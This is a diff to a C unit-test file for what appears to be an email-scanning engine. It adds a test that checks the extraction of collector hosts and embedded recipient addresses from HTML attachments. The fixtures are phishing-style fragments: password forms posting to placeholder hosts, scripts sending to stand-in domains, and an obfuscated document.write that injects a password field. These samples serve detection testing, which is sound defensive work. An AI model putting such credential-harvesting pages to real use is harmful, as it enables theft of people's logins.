@@ -6,6 +6,7 @@
 #include <cmocka.h>
 
 #include "engine/base/buffer.h"
+#include "engine/base/fold.h"
 #include "engine/base/memory.h"
 #include "engine/match/field.h"
 #include "tests/match/trial.h"
@@ -156,6 +157,9 @@ static void every_field_has_its_values(void **state)
         {"coldtrail.html.script", "3:go(1);"},
         {"coldtrail.html.decoded", ""},
         {"coldtrail.html.hidden", ""},
+        {"coldtrail.collector.host", "3:c.example;"},
+        {"coldtrail.attachment.recipient", ""},
+        {"coldtrail.body.template", ""},
         {"coldtrail.raw", MAIL ";"},
     };
     expect_fields(MAIL, cases, sizeof cases / sizeof cases[0]);
@@ -177,6 +181,28 @@ static void what_pages_hide_has_fields(void **state)
                   "<a href='http://evil.example'>x</a>"
                   "<script>document.write(unescape('%3Cinput type%3Dpassword%3E'))</script>"
                   "\n" TRIAL_END,
+                  cases, sizeof cases / sizeof cases[0]);
+}
+
+static void pages_for_a_recipient_say_how_and_where_they_send(void **state)
+{
+    (void)state;
+    static const struct field_case cases[] = {
+        {"coldtrail.attachment.recipient", "1:plain;1:percent;"},
+        {"coldtrail.collector.host", "1:one.example;1:two.example;2:three.example;"},
+    };
+    expect_fields("To: ann@cold.example\n" TRIAL_MULTIPART TRIAL_PART(
+                      "text/html", "a.html",
+                      "<form action='//One.example/p'><input type=password "
+                      "value=ann@cold.example></form><form action='https://two.example'>"
+                      "<input value=ann%40cold.example></form>"
+                      "<script>go('https://none.example')</script>")
+                      TRIAL_PART("text/html", "b.html",
+                                 "<input type=password><script>go('HTTPS://three.example/x?'"
+                                 "+'http:\\/\\/no')</script>")
+                          TRIAL_PART("text/html", "c.html",
+                                     "<input type=text><script>go('https://none.example')</script>")
+                              TRIAL_END,
                   cases, sizeof cases / sizeof cases[0]);
 }
 
@@ -296,6 +322,7 @@ int main(void)
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(every_field_has_its_values),
         cmocka_unit_test(what_pages_hide_has_fields),
+        cmocka_unit_test(pages_for_a_recipient_say_how_and_where_they_send),
         cmocka_unit_test(digests_and_bytes_are_of_what_was_decoded),
         cmocka_unit_test(headers_are_there_raw_and_as_values),
         cmocka_unit_test(a_message_of_nothing_has_no_values_but_itself),
@@ -303,5 +330,6 @@ int main(void)
         cmocka_unit_test(unknown_fields_get_a_suggestion),
         cmocka_unit_test(keywords_are_searched_in_fields_that_exist),
     };
+    fold_init();
     return cmocka_run_group_tests(tests, NULL, NULL);
 }
